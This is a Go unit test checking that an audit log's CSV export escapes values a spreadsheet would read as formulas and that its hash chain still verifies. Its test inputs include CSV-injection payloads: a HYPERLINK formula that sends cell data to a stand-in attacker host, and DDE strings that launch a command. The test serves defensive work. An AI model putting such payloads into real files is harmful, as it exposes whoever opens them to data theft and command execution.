package main

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
	"time"

	"strangler/domain"
	"strangler/store"
)

// TestAuditCSVExportOpensAsText: values a spreadsheet would take for a
// formula (a reason, a token's name, a detail starting with =, +, -, @,
// a tab or a carriage return) come out of the CSV export with a leading
// ', and removing one leading ' from any value gives back the exact
// value, whose hash an auditor recomputes as the README says.
func TestAuditCSVExportOpensAsText(t *testing.T) {
	texts := []string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
		"'=1+1",
		"'",
		"plain reason",
		"a = b",
		"",
	}
	var entries []domain.AuditEntry
	prev := strings.Repeat("0", 64)
	at := time.Date(2026, 3, 4, 10, 15, 0, 123456000, time.UTC)
	for i, text := range texts {
		e := domain.AuditEntry{
			ID: int64(i + 1), At: at, Actor: text, Action: "flip", Route: "get-patient",
			FromMode: domain.ModeLegacy, ToMode: domain.ModeModern, Reason: text, Detail: text, PrevHash: prev,
		}
		e.Hash = recompute(prev, store.AuditTime(e.At), e.Actor, e.Action, e.Route, string(e.FromMode), string(e.ToMode),
			"", "", e.Reason, strconv.FormatBool(e.Forced), e.Detail)
		prev = e.Hash
		entries = append(entries, e)
	}

	var out bytes.Buffer
	w := newCSVWriter(&out)
	for _, e := range entries {
		if err := w.write(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	if err != nil {
		t.Fatalf("the CSV export does not parse: %v", err)
	}
	if len(rows)-1 != len(entries) {
		t.Fatalf("%d CSV rows, want %d", len(rows)-1, len(entries))
	}
	for i, row := range rows[1:] {
		for j, v := range row {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				t.Errorf("row %d, column %s: %q starts a formula in a spreadsheet", i+1, rows[0][j], v)
			}
		}
		exact := make([]string, len(row))
		for j, v := range row {
			exact[j] = strings.TrimPrefix(v, "'")
		}
		if got, want := exact[9], texts[i]; got != want {
			t.Errorf("row %d: reason %q without its leading ', want %q", i+1, got, want)
		}
		if got := recompute(exact[12], exact[1:12]...); got != exact[13] || exact[13] != entries[i].Hash {
			t.Errorf("row %d: hash %s, recomputed from the values without their leading ' %s; want %s", i+1, exact[13], got, entries[i].Hash)
		}
	}
}
